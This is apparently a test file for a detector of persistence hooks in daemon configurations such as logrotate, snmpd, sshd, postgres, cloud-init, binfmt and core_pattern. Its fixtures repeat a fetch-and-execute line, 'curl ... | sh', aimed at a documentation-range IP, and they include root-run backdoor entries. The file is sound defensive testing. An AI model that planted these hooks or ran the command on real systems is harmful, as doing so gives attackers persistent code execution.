import { expect, test } from 'vitest';
import { machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { openSightings, sightings } from '../../../tests/told.ts';
import { daemonHooks } from './daemon-hooks.ts';

const fetching = 'curl -s http://198.51.100.7/a | sh';

test.each([
  ['/etc/logrotate.d/web', `/var/log/web.log {\n  daily\n  postrotate\n    ${fetching}\n    true\n  endscript\n}\n`, 4],
  ['/etc/rsyslog.d/60-up.conf', 'module(load="omprog")\naction(type="omprog" binary="/tmp/.x/up")\n', 2],
  ['/etc/rsyslog.conf', 'kern.*\t\t^/var/tmp/up\n', 1],
  ['/etc/snmp/snmpd.conf', `rocommunity public localhost\nextend up /bin/sh -c "${fetching}"\n`, 2],
  ['/etc/snmp/snmpd.conf', 'pass .1.3.6.1.4.1.8072 /dev/shm/p\n', 1],
  ['/var/spool/incron/root', '/etc/shadow IN_MODIFY,IN_ATTRIB /tmp/.x/back $@\n', 1],
  ['/etc/inetd.conf', 'up stream tcp nowait root /tmp/.x/up up -i\n', 1],
  ['/etc/xinetd.d/up', 'service up\n{\n  user = root\n  server = /bin/sh\n  server_args = /tmp/.x/up\n}\n', 4],
  ['/etc/acpi/events/lid', 'event=button/lid.*\naction=/var/tmp/lid.sh %e\n', 2],
  ['/etc/audit/plugins.d/up.conf', 'active = yes\npath = /var/tmp/up\n', 2],
  ['/etc/openvpn/client.conf', 'script-security 2\nup /tmp/up.sh\n', 2],
  ['/etc/ssh/sshd_config', 'Match User ann\n  ForceCommand /tmp/.x/in\n', 2],
  ['/root/.ssh/config', `Host *\n  ProxyCommand sh -c "${fetching}"\n`, 2],
  ['/etc/lightdm/lightdm.conf', '[Seat:*]\ngreeter-setup-script=/tmp/.x/up\n', 2],
  ['/var/lib/postgresql/16/main/postgresql.auto.conf', `archive_command = '${fetching}'\n`, 1],
  ['/etc/redis/redis.conf', 'port 6379\nloadmodule /tmp/red.so\n', 2],
  ['/var/lib/cloud/scripts/per-boot/up.sh', `#!/bin/sh\n${fetching}\n`, 2],
  ['/var/lib/cloud/instances/i-1/user-data.txt', `#!/bin/bash\n${fetching}\n`, 2],
  ['/etc/binfmt.d/x.conf', ':x:M::\\x7fELF::/tmp/.x/run:OC\n', 1],
  ['/etc/modprobe.d/x.conf', '# x\ninstall ext9 /tmp/.x/run; /sbin/modprobe -i ext9\n', 2],
  ['/etc/sysctl.d/60-x.conf', 'vm.swappiness = 1\nkernel.core_pattern = |/dev/shm/.c %p\n', 2],
  ['/proc/sys/kernel/core_pattern', '|/var/tmp/c %p\n', 1],
  ['/proc/sys/kernel/modprobe', '/tmp/.m\n', 1],
  ['/proc/sys/fs/binfmt_misc/x', 'enabled\ninterpreter /tmp/.x/run\nflags: OC\n', 2],
])('what %s starts from there is told openly', (path, content, line) => {
  const files = { '/etc/passwd': 'root:x:0:0::/root:/bin/bash\n', [path]: content };
  expect(openSightings(daemonHooks, files)).toMatchObject([{ path, line, value: { mechanism: 'daemon-hook' } }]);
});

test('the settings of an ordinary server are told aside, and comments not at all', () => {
  const files = {
    '/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
    '/etc/logrotate.d/nginx':
      '/var/log/nginx/*.log {\n  prerotate\n    if [ -d /etc/logrotate.d/httpd-prerotate ]; then \\\n      run-parts /etc/logrotate.d/httpd-prerotate; \\\n    fi\n  endscript\n  postrotate\n    invoke-rc.d nginx rotate >/dev/null 2>&1\n  endscript\n}\n',
    '/etc/logrotate.d/empty': 'x {\n postrotate\n endscript\n}\n',
    '/etc/rsyslog.conf': '# action(type="omprog" binary="/tmp/x")\n*.*;auth,authpriv.none -/var/log/syslog\n',
    '/etc/snmp/snmpd.conf': '#extend test /tmp/x\nextend distro /usr/bin/distro\n',
    '/etc/ssh/sshd_config': '#ForceCommand /tmp/x\nSubsystem sftp /usr/lib/openssh/sftp-server\n',
    '/root/.ssh/config': 'Host inner\n  ProxyCommand ssh -W %h:%p jump.example.com\n',
    '/etc/postgresql/16/main/postgresql.conf':
      "#archive_command = ''\narchive_command = 'test ! -f /mnt/a/%f && cp %p /mnt/a/%f' # nightly\n",
    '/var/lib/cloud/instances/i-1/user-data.txt': '#cloud-config\npackages: [nginx]\n',
    '/proc/sys/kernel/core_pattern': 'core\n',
    '/etc/modprobe.d/blacklist.conf': 'blacklist pcspkr\noptions nf_conntrack hashsize=1\n',
    '/usr/lib/binfmt.d/python3.11.conf': ':python3.11:M::\\xa7\\x0d\\x0d\\x0a::/usr/bin/python3.11:\n',
  };
  const told = sightings(daemonHooks, files);
  expect(told.filter(({ aside }) => !aside)).toEqual([]);
  expect(told.map(({ path }) => path).sort()).toEqual([
    '/etc/logrotate.d/nginx',
    '/etc/logrotate.d/nginx',
    '/etc/postgresql/16/main/postgresql.conf',
    '/etc/snmp/snmpd.conf',
    '/etc/ssh/sshd_config',
    '/root/.ssh/config',
    '/usr/lib/binfmt.d/python3.11.conf',
    '/var/lib/cloud/instances/i-1/user-data.txt',
  ]);
});

test('hostile settings end, without a gap', () => {
  const long = `${'extend '.repeat(20_000)}\n${'a '.repeat(50_000)}\nextend ${'a'.repeat(90_000)} /x\n`;
  const files = {
    '/etc/snmp/snmpd.conf': long,
    '/etc/rsyslog.conf': long,
    '/etc/ssh/ssh_config': `Match ${'exec '.repeat(20_000)}\n`,
    '/etc/logrotate.d/x': `postrotate\n${'true &\n'.repeat(30_000)}`,
    '/etc/binfmt.d/x': ':'.repeat(100_000),
  };
  expect(
    runProbe(daemonHooks, machineOf(files)).filter((one) => 'gap' in one && one.gap.code !== 'limit-count'),
  ).toEqual([]);
});
